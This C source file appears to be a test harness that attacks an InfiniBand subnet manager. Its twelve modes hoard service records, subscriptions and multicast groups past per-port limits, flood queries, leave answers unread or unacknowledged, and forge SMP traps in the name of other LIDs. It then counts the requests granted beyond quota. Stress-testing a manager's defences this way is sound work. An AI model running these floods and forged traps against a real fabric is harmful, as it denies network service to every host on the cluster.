/* A host that attacks the manager: floods, hoarding, forged SMPs, clients that do not read.
 *
 *     attacker MODE SECONDS
 *
 * It sends for that time as fast as it can, or until it has what it wants, and prints
 * "attempts N granted M": M requests were granted that exceed what one port may have. The modes are
 * in a table at the end. An attack reads answers only if it has to know them. */
#include "base/mem.h"
#include "base/rng.h"
#include "wire/mad.h"
#include "wire/packet.h"

#include <endian.h>
#include <infiniband/umad.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define PREFIX UINT64_C(0xFE80000000000000)
enum { IN_BYTES = 64 << 20, WINDOW = 128, TOP_LID = 1024 };
/* What one port may have by default. */
enum { SERVICES_ALLOWED = 32, SUBSCRIPTIONS_ALLOWED = 32, GROUPS_ALLOWED = 128 };

struct attacker {
    int port, agent, smp_agent, directed_agent;
    uint16_t own_lid, master_lid;
    uint64_t own_guid;
    uint8_t *out, *in;
    uint32_t tid;
    uint64_t end_us, attempts, granted;
    struct rng rng;
};

static uint64_t clock_us(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static bool goes_on(const struct attacker *attacker)
{
    return clock_us() < attacker->end_us;
}

/* ---- messages ---- */

static uint8_t *make_query(struct attacker *attacker, unsigned method, unsigned attribute,
                           uint64_t mask)
{
    uint8_t *mad = umad_get_mad(attacker->out);
    sa_request_begin(mad, method, attribute);
    wire_set(mad, SA_COMPONENT_MASK, mask);
    return mad + SA_DATA_OFFSET;
}

static void send_query(struct attacker *attacker, int timeout_ms)
{
    wire_set(umad_get_mad(attacker->out), MAD_TID, ++attacker->tid);
    umad_set_addr(attacker->out, attacker->master_lid, 1, 0, (int)Q_KEY_GSI);
    umad_send(attacker->port, attacker->agent, attacker->out, MAD_BYTES, timeout_ms, 0);
    attacker->attempts++;
}

/* Takes the answers that have arrived, and waits for one if there are `outstanding`. Returns the
 * number of those with status 0. */
static unsigned take_answers(struct attacker *attacker, unsigned *outstanding, unsigned most)
{
    unsigned granted = 0;
    int bytes = IN_BYTES;
    while (*outstanding &&
           umad_recv(attacker->port, attacker->in, &bytes, *outstanding >= most ? 1000 : 0) >= 0) {
        granted +=
            umad_status(attacker->in) == 0 && wire_get(umad_get_mad(attacker->in), MAD_STATUS) == 0;
        --*outstanding;
        bytes = IN_BYTES;
    }
    return granted;
}

static void set_gid(uint8_t *gid, uint64_t prefix, uint64_t guid)
{
    wire_set_bits(gid, 0, 64, prefix);
    wire_set_bits(gid, 64, 64, guid);
}

/* ---- hoarding ---- */

static void make_service(struct attacker *attacker, unsigned number)
{
    uint8_t *record = make_query(attacker, METHOD_SET, ATTRIBUTE_SERVICE_RECORD, 3);
    wire_set(record, SERVICE_RECORD_ID, 0x100000 + number);
    set_gid(wire_bytes(record, SERVICE_RECORD_GID), PREFIX, attacker->own_guid);
}

static void make_subscription(struct attacker *attacker, unsigned number)
{
    uint8_t *inform = make_query(attacker, METHOD_SET, ATTRIBUTE_INFORM_INFO, 0);
    wire_set(inform, INFORM_INFO_LID_RANGE_BEGIN, 0xFFFF);
    wire_set(inform, INFORM_INFO_IS_GENERIC, 1);
    wire_set(inform, INFORM_INFO_SUBSCRIBE, 1);
    wire_set(inform, INFORM_INFO_TYPE, number < 2 ? 0xFFFF : number / 0x1000);
    wire_set(inform, INFORM_INFO_TRAP_NUMBER, number < 2 ? 66 + number : 1000 + number % 0x1000);
    wire_set(inform, INFORM_INFO_PRODUCER_TYPE, 0xFFFFFF);
}

static void make_join(struct attacker *attacker, unsigned method, unsigned number)
{
    enum { MGID, PORT, Q_KEY, CLASS = 6, P_KEY, SL = 12, FLOW, STATE = 16 };
    uint8_t *record = make_query(attacker, method, ATTRIBUTE_MC_MEMBER_RECORD,
                                 1 << MGID | 1 << PORT | 1 << Q_KEY | 1 << CLASS | 1 << P_KEY |
                                     1 << SL | 1 << FLOW | 1 << STATE);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_MGID), UINT64_C(0xFF12A01CBAD00000), number + 1);
    set_gid(wire_bytes(record, MC_MEMBER_RECORD_PORT_GID), PREFIX, attacker->own_guid);
    wire_set(record, MC_MEMBER_RECORD_P_KEY, 0xFFFF);
    wire_set(record, MC_MEMBER_RECORD_JOIN_STATE, 1);
}

/* Registers until the time is over, and returns the number of what was granted. */
static uint64_t hoard(struct attacker *attacker, void (*make)(struct attacker *, unsigned))
{
    unsigned outstanding = 0;
    uint64_t granted = 0;
    for (unsigned number = 0; goes_on(attacker); number++) {
        make(attacker, number);
        send_query(attacker, 1000);
        outstanding++;
        granted += take_answers(attacker, &outstanding, WINDOW);
    }
    return granted + take_answers(attacker, &outstanding, 1);
}

static void make_new_group(struct attacker *attacker, unsigned number)
{
    make_join(attacker, METHOD_SET, number);
}

static void beyond(struct attacker *attacker, uint64_t granted, unsigned allowed)
{
    attacker->granted = granted > allowed ? granted - allowed : 0;
}

static void hoard_services(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_service), SERVICES_ALLOWED);
}

static void hoard_subscriptions(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_subscription), SUBSCRIPTIONS_ALLOWED);
}

static void hoard_groups(struct attacker *attacker)
{
    beyond(attacker, hoard(attacker, make_new_group), GROUPS_ALLOWED);
}

/* ---- floods of queries ---- */

/* Services as many as possible, then look-ups of one that does not exist. */
static void miss_services(struct attacker *attacker)
{
    unsigned outstanding = 0;
    uint64_t end_us = attacker->end_us;
    attacker->end_us = clock_us() + (end_us - clock_us()) / 2;
    hoard(attacker, make_service);
    attacker->end_us = end_us;
    while (goes_on(attacker)) {
        wire_set(make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, 1), SERVICE_RECORD_ID,
                 7);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, WINDOW);
    }
}

/* Look-ups by a component that is not indexed. */
static void scan_services(struct attacker *attacker)
{
    enum { DATA8_2 = 9 };
    unsigned outstanding = 0;
    while (goes_on(attacker)) {
        wire_set_at(
            make_query(attacker, METHOD_GET, ATTRIBUTE_SERVICE_RECORD, UINT64_C(1) << DATA8_2),
            SERVICE_RECORD_DATA8, 2, 99);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, WINDOW);
    }
}

static void query_tables(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET_TABLE,
                   attacker->attempts % 2 ? ATTRIBUTE_PORT_INFO_RECORD : ATTRIBUTE_PATH_RECORD, 0);
        send_query(attacker, 0);
    }
}

/* Asks, and reads no answer. */
static void query_without_reading(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET, ATTRIBUTE_CLASS_PORT_INFO, 0);
        send_query(attacker, 100);
    }
}

/* Asks for tables as a client without RMPP: the answers are never acknowledged. */
static void query_tables_without_acknowledging(struct attacker *attacker)
{
    umad_unregister(attacker->port, attacker->agent);
    attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, 0, NULL);
    while (goes_on(attacker)) {
        make_query(attacker, METHOD_GET_TABLE, ATTRIBUTE_PORT_INFO_RECORD, 0);
        send_query(attacker, 0);
    }
}

/* Subscribes to all reports about groups, then creates and deletes groups: never answers. */
static void provoke_reports(struct attacker *attacker)
{
    unsigned outstanding = 0;
    for (unsigned i = 0; i < 2; i++) {
        make_subscription(attacker, i);
        send_query(attacker, 1000);
        outstanding++;
    }
    for (unsigned i = 0; goes_on(attacker); i++) {
        make_join(attacker, i % 2 ? METHOD_DELETE : METHOD_SET, i / 2 % 64);
        send_query(attacker, 1000);
        outstanding++;
        take_answers(attacker, &outstanding, 16);
    }
}

/* ---- forged SMPs ---- */

static uint8_t *make_smp(struct attacker *attacker, unsigned method, unsigned attribute)
{
    uint8_t *mad = umad_get_mad(attacker->out);
    memset(mad, 0, MAD_BYTES);
    wire_set(mad, MAD_BASE_VERSION, 1);
    wire_set(mad, MAD_CLASS, CLASS_SUBN_LID);
    wire_set(mad, MAD_CLASS_VERSION, 1);
    wire_set(mad, MAD_METHOD, method);
    wire_set(mad, MAD_ATTRIBUTE_ID, attribute);
    wire_set(mad, MAD_TID, ++attacker->tid);
    return mad + SMP_DATA_OFFSET;
}

static void send_smp(struct attacker *attacker, unsigned lid)
{
    umad_set_addr(attacker->out, (int)lid, 0, 0, 0);
    umad_send(attacker->port, attacker->smp_agent, attacker->out, MAD_BYTES, 0, 0);
    attacker->attempts++;
}

/* Traps 128 in the name of every LID: "a port of this switch has changed". */
static void forge_traps(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        uint8_t *notice = make_smp(attacker, METHOD_TRAP, ATTRIBUTE_NOTICE);
        wire_set(notice, NOTICE_IS_GENERIC, 1);
        wire_set(notice, NOTICE_TYPE, 1);
        wire_set(notice, NOTICE_PRODUCER_TYPE, 2);
        wire_set(notice, NOTICE_TRAP_NUMBER, 128);
        wire_set(notice, NOTICE_ISSUER_LID, 1 + rng_below(&attacker->rng, TOP_LID));
        send_smp(attacker, attacker->master_lid);
    }
}

static void own_traps(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        uint8_t *notice = make_smp(attacker, METHOD_TRAP, ATTRIBUTE_NOTICE);
        wire_set(notice, NOTICE_IS_GENERIC, 1);
        wire_set(notice, NOTICE_TYPE, 4);
        wire_set(notice, NOTICE_PRODUCER_TYPE, 1);
        wire_set(notice, NOTICE_TRAP_NUMBER, 144);
        wire_set(notice, NOTICE_ISSUER_LID, attacker->own_lid);
        send_smp(attacker, attacker->master_lid);
    }
}

static void flood_sm_info(struct attacker *attacker)
{
    while (goes_on(attacker)) {
        make_smp(attacker, METHOD_GET, ATTRIBUTE_SM_INFO);
        send_smp(attacker, attacker->master_lid);
    }
}

/* ---- the program ---- */

static const struct mode {
    const char *name;
    void (*run)(struct attacker *attacker);
} modes[] = {
    {"services", hoard_services},      {"subscriptions", hoard_subscriptions},
    {"groups", hoard_groups},          {"misses", miss_services},
    {"scans", scan_services},          {"tables", query_tables},
    {"unread", query_without_reading}, {"unacknowledged", query_tables_without_acknowledging},
    {"reports", provoke_reports},      {"traps", forge_traps},
    {"own-traps", own_traps},          {"sminfo", flood_sm_info},
};

static bool open_port(struct attacker *attacker)
{
    umad_port_t port;
    umad_init();
    if (umad_get_port(NULL, 0, &port) < 0)
        return false;
    attacker->own_lid = (uint16_t)port.base_lid;
    attacker->master_lid = (uint16_t)port.sm_lid;
    attacker->own_guid = be64toh(port.port_guid);
    umad_release_port(&port);
    attacker->port = umad_open_port(NULL, 0);
    if (attacker->port < 0)
        return false;
    attacker->agent = umad_register(attacker->port, CLASS_SUBN_ADM, 2, RMPP_THIS_VERSION, NULL);
    attacker->smp_agent = umad_register(attacker->port, CLASS_SUBN_LID, 1, 0, NULL);
    attacker->directed_agent = umad_register(attacker->port, CLASS_SUBN_DIRECTED, 1, 0, NULL);
    return attacker->agent >= 0 && attacker->smp_agent >= 0 && attacker->directed_agent >= 0;
}

int main(int argc, char **argv)
{
    struct attacker attacker = {0};
    const struct mode *mode = NULL;
    for (size_t i = 0; argc == 3 && i < sizeof modes / sizeof *modes; i++)
        if (strcmp(argv[1], modes[i].name) == 0)
            mode = &modes[i];
    if (!mode) {
        fprintf(stderr, "usage: %s MODE SECONDS, with a mode of the table in attacker.c\n",
                argv[0]);
        return 2;
    }
    if (!open_port(&attacker)) {
        fprintf(stderr, "attacker: cannot open an InfiniBand port\n");
        return 1;
    }
    attacker.out = mem_zalloc(1, sizeof(struct ib_user_mad) + MAD_BYTES);
    attacker.in = mem_zalloc(1, sizeof(struct ib_user_mad) + IN_BYTES);
    attacker.end_us = clock_us() + strtoul(argv[2], NULL, 10) * 1000000;
    rng_seed(&attacker.rng, attacker.own_guid, 0);
    mode->run(&attacker);
    printf("attempts %llu granted %llu\n", (unsigned long long)attacker.attempts,
           (unsigned long long)attacker.granted);
    mem_free(attacker.in);
    mem_free(attacker.out);
    return 0;
}
